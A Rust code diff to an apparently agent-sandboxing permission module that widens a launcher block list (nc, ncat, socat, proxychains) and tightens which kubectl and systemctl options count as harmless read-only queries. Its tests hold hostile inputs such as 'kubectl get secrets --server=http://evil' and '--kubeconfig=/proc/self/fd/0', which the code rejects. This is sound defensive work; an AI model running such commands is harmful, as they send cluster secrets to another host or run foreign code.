@@ -110,12 +110,44 @@ pub const LAUNCHERS: &[&str] = &[
     "vim",
     "ex",
     "ed",
+    "prlimit",
+    "setpriv",
+    "setarch",
+    "time",
+    "runcon",
+    "run-parts",
+    "sg",
+    "newgrp",
+    "command",
+    "capsh",
+    "rbash",
+    "chpst",
+    "firejail",
+    "bwrap",
+    "unbuffer",
+    "sudoedit",
+    "machinectl",
+    "systemd-nspawn",
+    "numactl",
+    "faketime",
+    "torsocks",
+    "proxychains",
+    "valgrind",
+    "socat",
+    "nc",
+    "ncat",
+    "tmux",
+    "screen",
 ];
+
+/// Interpreters named with a version (`python3.11`, `perl5.36`, `ruby3.1`):
+/// launchers too.
+const INTERPRETER_PREFIXES: &[&str] = &["python", "perl", "ruby", "php", "lua", "node", "tclsh", "wish", "guile"];
 
 /// Whether `argv0` (by basename) is a launcher: see [`LAUNCHERS`].
 pub fn is_launcher(argv0: &str) -> bool {
     let base = argv0.rsplit('/').next().unwrap_or(argv0);
-    LAUNCHERS.contains(&base)
+    LAUNCHERS.contains(&base) || INTERPRETER_PREFIXES.iter().any(|p| base.starts_with(p))
 }
 
 /// Environment variables an action may set without a grant: locale,
@@ -200,12 +232,54 @@ const VALUE_OPTIONS: &[&str] = &["-n", "--namespace", "-o", "--output", "--kubec
 /// Whether `argv` is one of [`DRY_RUN_QUERIES`].
 pub fn is_dry_run_query(argv: &[String]) -> bool {
     let Some((program, rest)) = argv.split_first() else { return false };
-    // Reading a device can act (`cat /dev/watchdog` arms the watchdog).
-    if rest.iter().any(|w| w.contains("/dev/")) {
+    // Reading a device can act (`cat /dev/watchdog` arms the watchdog), and
+    // `/proc/self/fd/0` is the action's own stdin (a kubeconfig whose
+    // `exec` credential runs a program).
+    if rest.iter().any(|w| w.contains("/dev/") || w.contains("/proc/")) {
         return false;
     }
-    DRY_RUN_QUERIES.iter().any(|q| q[0] == program && subcommand_is(rest, &q[1..]))
+    // Any option, before or after the subcommand, must be one plait knows:
+    // `--server`, `--token`, `--host` and the like send or run elsewhere.
+    let known = |w: &String| !w.starts_with('-') || KNOWN_OPTIONS.contains(&w.split('=').next().unwrap_or(w));
+    DRY_RUN_QUERIES.iter().any(|q| q[0] == program && rest.iter().all(known) && subcommand_is(rest, &q[1..]))
 }
+
+/// Options a query may carry anywhere: [`VALUE_OPTIONS`] and flags that
+/// only change what is printed.
+const KNOWN_OPTIONS: &[&str] = &[
+    "-n",
+    "--namespace",
+    "-o",
+    "--output",
+    "--kubeconfig",
+    "-l",
+    "--selector",
+    "-A",
+    "--all-namespaces",
+    "--no-headers",
+    "--request-timeout",
+    "--timeout",
+    "-q",
+    "--quiet",
+    "-E",
+    "-F",
+    "-e",
+    "-i",
+    "-c",
+    "-d",
+    "-a",
+    "-A",
+    "-l",
+    "-la",
+    "-p",
+    "--property",
+    "--value",
+    "-H",
+    "-s",
+    "-r",
+    "--",
+    "-f",
+];
 
 /// Whether the first words of `rest` that are no options are `sub`, with
 /// only known options before and among them.
@@ -340,7 +414,12 @@ mod tests {
             (&["kubectl", "--cache-dir", "get", "delete", "node", "x"][..], false),
             (&["kubectl", "--server=http://evil", "get", "secrets"][..], false),
             (&["cat", "/dev/watchdog"][..], false),
-            (&["kubectl", "get", "nodes", "--watch"][..], true),
+            (&["kubectl", "get", "nodes", "-o", "name"][..], true),
+            // Options after the subcommand count too (second review).
+            (&["kubectl", "--kubeconfig=/proc/self/fd/0", "get", "nodes"][..], false),
+            (&["kubectl", "get", "secrets", "--server=http://evil"][..], false),
+            (&["kubectl", "get", "secrets", "--token=x"][..], false),
+            (&["systemctl", "show", "--host=root@evil"][..], false),
         ] {
             assert_eq!(is_dry_run_query(&argv(a)), want, "{a:?}");
         }
